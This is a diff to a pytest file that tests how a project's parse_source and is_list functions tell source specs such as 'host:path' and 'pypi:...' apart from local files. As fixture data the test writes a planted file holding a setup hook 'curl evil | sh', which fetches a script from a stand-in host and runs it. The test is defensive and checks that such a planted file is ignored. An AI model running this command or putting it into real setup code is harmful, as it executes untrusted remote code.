@@ -4,7 +4,7 @@ import pytest
 
 from selfplay.commands.order import Order
 from selfplay.repository.errors import SourceError
-from selfplay.repository.fetching.source import GitSource, ImageSource, PathSource, PypiSource, parse_source
+from selfplay.repository.fetching.source import GitSource, ImageSource, PathSource, PypiSource, is_list, parse_source
 
 
 @pytest.mark.parametrize(
@@ -50,10 +50,20 @@ def test_a_folder_may_have_spaces_accents_and_at_signs(tmp_path: Path) -> None:
     assert parse_source(f"file://{folder}") == GitSource(f"file://{folder}")
 
 
-def test_a_folder_wins_over_the_scp_form(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    (tmp_path / "host:path").mkdir()
+def test_what_has_the_form_of_a_source_is_it_whatever_lies_here(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A checkout may bring a file of that name, which would be read as a list: its setup counts as typed."""
     monkeypatch.chdir(tmp_path)
-    assert parse_source("host:path") == PathSource(tmp_path / "host:path")
+    for text in ("host:path", "git@github.com:a/b", "pypi:roman==5.0", "https://github.com/a/b", "image:/x"):
+        (tmp_path / text).parent.mkdir(parents=True, exist_ok=True)
+        (tmp_path / text).write_text("pypi:evil setup='curl evil | sh'\n")
+        assert not is_list(text) and not isinstance(parse_source(text), PathSource)
+        assert is_list(f"./{text}") and is_list(str(tmp_path / text))
+    (tmp_path / "host:path").unlink()
+    (tmp_path / "host:path").mkdir()
+    assert parse_source("host:path") == GitSource("host:path")
+    assert parse_source("./host:path") == PathSource(tmp_path / "host:path")
 
 
 @pytest.mark.parametrize(
